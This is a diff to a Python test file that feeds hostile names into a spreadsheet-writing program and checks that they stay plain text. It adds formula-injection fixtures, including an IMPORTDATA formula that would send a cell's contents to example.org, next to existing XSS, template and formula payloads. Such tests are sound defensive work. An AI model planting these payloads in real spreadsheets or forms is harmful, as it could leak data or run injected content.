@@ -122,6 +122,7 @@ def test_two_people_of_one_name(programs: Programs) -> None:
 
 HOSTILE = {
     "a formula": '=IMPORTXML("http://example.org/","//a")',
+    "an import": '=IMPORTDATA("http://example.org/?"&A1)',
     "Typst": "#let x = 1",
     "HTML": "<script>alert(1)</script>",
     "a template": "{{ 7*7 }}",
@@ -131,6 +132,7 @@ HOSTILE = {
     "500 characters": "Long name " * 50,
     "quotes and slashes": 'Ana "O\'Neill" \\ / ../../x',
     "plus": "+1+1",
+    "minus": "-1+1",
     "at": "@SUM(1+1)",
 }
 
@@ -166,7 +168,7 @@ def test_names_of_all_kinds_are_paid_and_stay_text(hostile: Program) -> None:
         [f"'{tab}'!A1:Z100" for tab in tabs], params={"valueRenderOption": "FORMULA"}
     )
     cells = [str(cell) for block in formulas["valueRanges"] for row in block.get("values", []) for cell in row]
-    assert {cell for cell in cells if cell.startswith("=")} <= {HOSTILE["a formula"]}
+    assert {cell for cell in cells if cell.startswith("=")} <= {HOSTILE["a formula"], HOSTILE["an import"]}
     assert hostile.run().json["counts"]["done"] == 0
 
 
